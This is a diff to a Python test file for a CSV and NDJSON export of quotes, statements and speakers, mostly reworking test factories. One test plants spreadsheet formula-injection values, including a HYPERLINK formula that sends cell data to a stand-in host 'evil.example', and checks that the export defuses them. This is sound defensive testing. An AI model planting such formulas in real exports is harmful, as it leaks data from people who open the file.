@@ -27,6 +27,7 @@ from tests.factories import (
     EventFactory,
     QuoteFactory,
     QuoteStakeholderFactory,
+    SpeakerFactory,
     SpeakerRoleFactory,
     StakeholderGroupFactory,
     StatementFactory,
@@ -46,9 +47,10 @@ NDJSON_QUERIES = {
     "quotes": 5,
     "statements": 5,
     "speakers": 4,
-    "events": 4,
+    "events": 5,
     "themes": 4,
     "stakeholder-groups": 3,
+    "organizations": 4,
 }
 
 
@@ -300,12 +302,11 @@ def test_quotes_commas_and_newlines_round_trip(client):
 def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_ndjson_keeps_them(client):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
     text = '+1 more. @everyone. - a dash. \'quoted. "Said". \tTab. =A1'
-    statement = StatementFactory(
-        text=text, title="@SUM(A1:A9)", speaker__name=formula, publisher="-2+3"
-    )
+    statement = StatementFactory(text=text, title="@SUM(A1:A9)", publisher__name="-2+3")
+    speaker = SpeakerFactory(name=formula)
     sentences = [(0, 8), (9, 19), (20, 29), (30, 38), (39, 46), (47, 52)]
     for start, end in sentences:
-        QuoteFactory(statement=statement, spans=[(start, end)])
+        QuoteFactory(statement=statement, speaker=speaker, spans=[(start, end)])
 
     header, *rows = csv_rows(client.get(export_url("quotes", "csv")))
     cells = [dict(zip(header, row, strict=True)) for row in rows]
@@ -327,7 +328,8 @@ def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_ndjson_keeps_them(cli
     assert dict(zip(header, row, strict=True))["name"] == "'" + formula
     header, row = csv_rows(client.get(export_url("statements", "csv")))
     statement_cells = dict(zip(header, row, strict=True))
-    assert statement_cells["publisher"] == "'-2+3"
+    assert statement_cells["publisher_name"] == "'-2+3"
+    assert statement_cells["author_name"] == "'-2+3"
     assert statement_cells["text"] == "'" + text
 
 
@@ -342,6 +344,7 @@ def make_quotes(n: int, *, feed: bool = True, batch: int = 1_000) -> None:
     the rest of the insert, and the feed is not what such tests look at.
     """
     statement = StatementFactory(text="Words worth quoting. And more words.")
+    speaker = SpeakerFactory()
     themes = [ThemeFactory(), ThemeFactory()]
     group = StakeholderGroupFactory()
     start = Quote.objects.count()
@@ -354,7 +357,7 @@ def make_quotes(n: int, *, feed: bool = True, batch: int = 1_000) -> None:
                 Quote(
                     slug=f"bulk-quote-{start + i}",
                     statement=statement,
-                    speaker=statement.speaker,
+                    speaker=speaker,
                     fidelity=Fidelity.DIRECT,
                     text="Words worth quoting.",
                 )
@@ -389,8 +392,8 @@ def test_query_count_does_not_grow_with_the_rows(
             themes=[ThemeFactory(parent=ThemeFactory())],
             stakeholder_groups=[StakeholderGroupFactory()],
         )
-        SpeakerRoleFactory(speaker=statement.speaker)
         quote = QuoteFactory(statement=statement, themes=statement.themes.all())
+        SpeakerRoleFactory(speaker=quote.speaker)
         QuoteStakeholderFactory(quote=quote, group=statement.stakeholder_groups.get())
     model = exports.RESOURCES[resource].model
 
